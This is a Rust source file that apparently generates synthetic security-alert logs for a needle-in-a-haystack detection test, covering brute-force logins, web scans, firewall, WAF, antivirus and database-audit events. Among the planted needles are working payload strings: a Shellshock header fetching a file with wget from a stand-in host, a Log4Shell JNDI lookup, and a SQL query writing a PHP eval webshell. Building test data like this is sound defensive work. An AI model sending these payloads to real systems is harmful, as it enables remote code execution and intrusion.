//! Needles that somebody else saw, or that are what the noise was made for: the guess that was right, the page that was there, what a firewall
//! let through among thousands that it dropped, the virus among test files.
//!
//! The noise is what such products report all day. It comes from few sources or by few rules, so that each has an incident of its own, and
//! the question is whether the needle has one beside it.

use serde_json::json;

use super::Maker;

/// Sources that guess or scan: few, so that none is lost in a crowd.
const SOURCES: u64 = 12;

fn source(number: u64) -> String {
    format!("198.51.100.{}", number + 10)
}

/// A dozen sources guess at a mail server and scan a web server. One gets in, another finds a dump of a database.
pub(super) fn hits(maker: &mut Maker, count: usize) {
    let span = count as u64 * 90;
    for number in 0..count as u64 - 4 {
        let from = source(maker.chance.below(SOURCES));
        if number % 2 == 0 {
            let user = maker.chance.one_of(&["info", "sales", "office", "hanna"], "info");
            maker.mail(number * 90, &from, user, false, None);
        } else {
            let path = maker.guessed_path();
            maker.web(number * 90, &from, &path, 404, None);
        }
    }
    // The end of the flood: who gets in must have guessed before.
    let (guesser, finder) = (source(3), source(7));
    let needle = maker.needle("a guess that was right", &guesser, "brute_force");
    maker.mail(span, &guesser, "hanna", true, Some(needle));
    maker.mail(span + 60_000, &guesser, "hanna", true, Some(needle));
    let needle = maker.needle("a dump that a scan finds", &finder, "forced_browsing");
    let at = maker.amid(span);
    maker.web(at, &finder, "/backup/shop.sql.gz", 200, Some(needle));
    maker.web(at + 700, &finder, "/.git/config", 200, Some(needle));
}

/// Hundreds of sources ask for scripts as they are named that somebody plants, and for programs; none is there. One script is, and two
/// send their attack in a header.
pub(super) fn wishes(maker: &mut Maker, count: usize) {
    let sources = (count as u64 / 12).max(90);
    let span = count as u64 * 20;
    let from = |number: u64| format!("198.19.{}.{}", number / 250, number % 250 + 1);
    for number in 0..count as u64 - 3 {
        let folder = maker.chance.one_of(&["uploads", "upload", "images/upload"], "uploads");
        let word = maker.chance.one_of(&["cmd", "r57", "img", "x", "up", "test"], "x");
        let path = match maker.chance.below(4) {
            0 => maker.guessed_path(),
            1 => format!("/bin/{word}"),
            _ => format!("/{folder}/{word}{}.php", maker.chance.below(900)),
        };
        let status = if maker.chance.below(6) == 0 { 403 } else { 404 };
        let who = from(maker.chance.below(sources));
        maker.web(number * 20, &who, &path, status, None);
    }
    let actor = from(maker.chance.below(sources));
    let needle = maker.needle("a planted script that is there", &actor, "webshell");
    let at = maker.amid(span);
    maker.web(at, &actor, "/uploads/img77.php", 200, Some(needle));
    for (name, class, client) in [
        (
            "a command in a header, with quotes",
            "command_injection",
            r#"() { :; }; /bin/bash -c \"wget http://198.51.100.7/s -O /tmp/s\""#,
        ),
        ("a lookup in a header", "log4shell", "${jndi:ldap://198.51.100.7/a}"),
    ] {
        let actor = from(maker.chance.below(sources));
        let needle = maker.needle(name, &actor, class);
        let at = maker.amid(span);
        maker.web_by(at, &actor, "/uploads/img1.php", 404, client, Some(needle));
    }
}

/// What products report by one rule each: attacks that a firewall dropped, requests that the firewall of a web application refused, test files
/// that a virus scanner found, queries of a shop. In each of them one that is another thing.
pub(super) fn products(maker: &mut Maker, count: usize) {
    let span = count as u64 * 900;
    for number in 0..count as u64 - 5 {
        let (at, from) = (number * 900, source(maker.chance.below(SOURCES)));
        match number % 4 {
            0 => {
                let attack = maker.chance.one_of(
                    &[
                        "Vendor.Router.Remote.Code.Execution",
                        "HTTP.URI.SQL.Injection",
                        "Odd.Header",
                    ],
                    "x",
                );
                maker.firewall(at, &from, attack, "dropped", None);
            }
            1 => maker.refused(at, &from, "Host header is a numeric IP address", None),
            2 => {
                let part = format!("/var/spool/scan/{}/p001", maker.chance.below(90_000));
                maker.virus(at, "mail01", &part, "Win.Test.EICAR_HDB-1", None);
            }
            _ => {
                let query = format!("select * from orders where id = {}", maker.chance.below(9000));
                maker.query(at, &query, None);
            }
        }
    }
    let actor = source(2);
    let needle = maker.needle("an attack that the firewall let through", &actor, "exploit");
    let at = maker.amid(span);
    maker.firewall(at, &actor, "Vendor.Router.Remote.Code.Execution", "detected", Some(needle));
    let needle = maker.needle("an injection that was refused", &actor, "sql_injection");
    let at = maker.amid(span);
    maker.refused(at, &actor, "SQL Injection Attack Detected", Some(needle));
    let needle = maker.needle("a trojan that is no test", "mail01", "malware");
    let at = maker.amid(span);
    maker.virus(at, "mail01", "/usr/local/bin/kworkerd", "Unix.Trojan.Agent-77", Some(needle));
    let needle = maker.needle("a query that writes a program", "shop", "command_execution");
    let at = maker.amid(span);
    maker.query(at, "select '<?php eval($_POST[1]);' into outfile '/srv/www/a.php'", Some(needle));
    let needle = maker.needle("a defence is switched off", "dev07", "defense_evasion");
    let at = maker.amid(span);
    let more = json!({
        "decoder": {"name": "json"}, "location": "github",
        "data": {"integration": "github", "github": {"actor": "dev07", "action": "secret_scanning.disable", "repo": "corp/shop"}},
    });
    let rule = ("91370", 9, "Secret scanning was switched off.", &["github", "git"][..]);
    maker.alert(at, rule, ("000", "manager"), more, Some(needle));
}

/// What is found of the settings of a hundred machines, a text for each. One machine loses what it had, and on another somebody leaves a
/// note that wants money.
pub(super) fn settings(maker: &mut Maker, count: usize) {
    let span = count as u64 * 60;
    for number in 0..count as u64 - 2 {
        let host = maker.chance.below(100);
        let parts =
            ["cramfs", "avahi", "cups", "dhcp", "ldap", "nfs", "dns", "ftp", "imap", "samba"];
        let (part, what) = (
            maker.chance.one_of(&parts, "x").to_owned(),
            maker.chance.one_of(&["is disabled", "is not installed", "is masked"], "x"),
        );
        let title = format!("Ensure {part} {what}");
        maker.check(number * 60, ("19007", 7), host, &title, None);
    }
    let needle = maker.needle("a setting that got worse", "srv44", "policy_violation");
    let at = maker.amid(span);
    let worse = "Ensure root may not log in: status changed from passed to failed";
    maker.check(at, ("19011", 9), 44, worse, Some(needle));
    let needle = maker.needle("a note that wants money", "srv71", "malware");
    let at = maker.amid(span);
    let more = json!({
        "full_log": "File '/srv/share/HOW_TO_RECOVER_FILES.txt' added\nMode: realtime\n",
        "syscheck": {"path": "/srv/share/HOW_TO_RECOVER_FILES.txt", "mode": "realtime", "event": "added"},
        "decoder": {"name": "syscheck_new_entry"}, "location": "syscheck",
    });
    let groups = &["ossec", "syscheck", "syscheck_entry_added", "syscheck_file"][..];
    maker.alert(at, ("554", 5, "A file was added.", groups), ("571", "srv71"), more, Some(needle));
}

impl Maker {
    /// Adds a login at the mail server.
    fn mail(&mut self, at: u64, from: &str, user: &str, is_let_in: bool, needle: Option<usize>) {
        let (rule, what) = if is_let_in {
            let groups = &["dovecot", "authentication_success"][..];
            (("9701", 3, "Somebody logged in at the mail server.", groups), "Login")
        } else {
            let groups = &["dovecot", "authentication_failed"][..];
            (
                ("9702", 5, "A login at the mail server failed.", groups),
                "Disconnected (auth failed)",
            )
        };
        let session = self.chance.below(900_000);
        let more = json!({
            "full_log": format!("Nov 24 14:26:00 mail01 dovecot: imap-login: {what}: user=<{user}>, method=PLAIN, rip={from}, session=<{session:x}>"),
            "decoder": {"name": "dovecot"}, "location": "/var/log/mail.log",
            "data": {"srcip": from, "dstuser": user},
        });
        self.alert(at, rule, ("004", "mail01"), more, needle);
    }

    /// Adds an attack that a firewall saw.
    fn firewall(&mut self, at: u64, from: &str, attack: &str, action: &str, needle: Option<usize>) {
        let rule = if action == "dropped" {
            ("81629", 6, "The firewall dropped an attack.", &["fortigate", "attack"][..])
        } else {
            ("81628", 11, "The firewall saw an attack.", &["fortigate", "attack"][..])
        };
        let more = json!({
            "full_log": format!("type=utm subtype=ips srcip={from} dstip=10.0.0.21 action={action} attack=\"{attack}\""),
            "decoder": {"name": "fortigate-firewall-v5"}, "location": "10.0.0.1",
            "data": {"srcip": from, "dstip": "10.0.0.21", "action": action, "attack": attack},
        });
        self.alert(at, rule, ("005", "fw01"), more, needle);
    }

    /// Adds a request that the firewall of a web application refused.
    fn refused(&mut self, at: u64, from: &str, message: &str, needle: Option<usize>) {
        let path = self.guessed_path();
        let more = json!({
            "full_log": format!("[error] [client {from}:4000] ModSecurity: Access denied with code 403 (phase 2). [id \"1\"] [msg \"{message}\"] [uri \"{path}\"]"),
            "decoder": {"name": "apache-errorlog"}, "location": "/var/log/apache2/error.log",
            "data": {"srcip": from},
        });
        let groups = &["apache", "web", "access_denied", "modsecurity"][..];
        let rule = ("30201", 6, "A request was refused.", groups);
        self.alert(at, rule, ("002", "web02"), more, needle);
    }

    /// Adds a file in which a virus scanner found something.
    fn virus(&mut self, at: u64, host: &str, file: &str, name: &str, needle: Option<usize>) {
        let more = json!({
            "full_log": format!("{file}: {name} FOUND"),
            "decoder": {"name": "clamd"}, "location": "/var/log/clamav/clamav.log",
            "data": {"url": file, "extra_data": name},
        });
        let rule = ("52502", 8, "A virus was found.", &["clamd", "virus"][..]);
        self.alert(at, rule, ("004", host), more, needle);
    }

    /// Adds a query that a database tells of.
    fn query(&mut self, at: u64, query: &str, needle: Option<usize>) {
        let more = json!({
            "decoder": {"name": "json"}, "location": "/var/log/mysql/audit.log",
            "data": {"audit_record": {"command_class": "select", "user": "shop", "sqltext": query}},
        });
        let rule = ("88004", 3, "A query was run.", &["mysql_audit"][..]);
        self.alert(at, rule, ("003", "db01"), more, needle);
    }

    /// Adds what a check of a machine's settings found.
    fn check(&mut self, at: u64, rule: (&str, u8), host: u64, title: &str, needle: Option<usize>) {
        let described = format!("A benchmark: {title}");
        let more = json!({
            "decoder": {"name": "sca"}, "location": "sca",
            "data": {"sca": {"type": "check", "check": {"title": title, "result": "failed"}}},
        });
        let rule = (rule.0, rule.1, described.as_str(), &["sca"][..]);
        self.alert(at, rule, (&format!("5{host:02}"), &format!("srv{host:02}")), more, needle);
    }
}
